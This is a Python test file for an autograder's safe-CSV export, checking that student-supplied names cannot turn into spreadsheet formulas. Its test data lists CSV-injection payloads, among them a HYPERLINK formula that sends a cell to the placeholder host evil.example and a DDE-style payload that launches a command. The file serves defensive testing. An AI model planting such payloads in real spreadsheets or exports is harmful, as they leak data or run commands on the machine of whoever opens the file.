"""Reports that stay safe whatever a student names their folder or returns:
CSV cells that cannot become formulas, bounded pictures and gradebook rows,
collision-free file names."""

import csv
import io

import pytest

from autograder import export
from autograder.reports import nbgrader_csv, safe_csv
from autograder.result import ItemResult, Result

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_gets_a_leading_quote(text):
    assert safe_csv.cell(text) == "'" + text.replace("\r", "\n")


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    buffer = io.StringIO()
    safe_csv.writer(buffer).writerow(["bob\r=1+1", "x\r\ny"])
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [["bob\n=1+1", "x\ny"]]


@pytest.mark.parametrize("value", ["alice", "王小明", "bob = 1", "", "'quoted", 3, 2.5, -1.5])
def test_other_cells_are_unchanged(value):
    assert safe_csv.cell(value) == value


def test_none_is_an_empty_cell_and_the_csv_reads_back():
    buffer = io.StringIO()
    safe_csv.writer(buffer).writerows([["=1+1", None, 4], ["a,b", '"q"', "@x"]])
    assert buffer.getvalue().startswith("'=1+1,,4\n")
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1+1", "", "4"], ["a,b", '"q"', "'@x"]]


def test_dict_writer_neutralises_header_and_values():
    buffer = io.StringIO()
    writer = safe_csv.dict_writer(buffer, ["name", "=score"])
    writer.writeheader()
    writer.writerow({"name": "+1+2", "=score": 3})
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["name", "'=score"], ["'+1+2", "3"]]


def _result(name):
    item = ItemResult("activations.sigmoid_values", "activations", "sigmoid", 2.0, 4.0, "failed", "public",
                      {"zh-TW": "錯", "en": "wrong"})
    return Result(name, [item])


def _cells(text):
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def test_gradebook_and_nbgrader_csv_hold_no_formula():
    results = [_result(name) for name in FORMULAS]
    for text in (export.gradebook_csv([(r.submission, "0" * 64, r) for r in results]),
                 nbgrader_csv.grades_csv(results)):
        cells = _cells(text)
        assert not [c for c in cells if c.startswith(safe_csv.FORMULA_STARTS)]
        for name in FORMULAS:
            assert safe_csv.cell(name) in cells
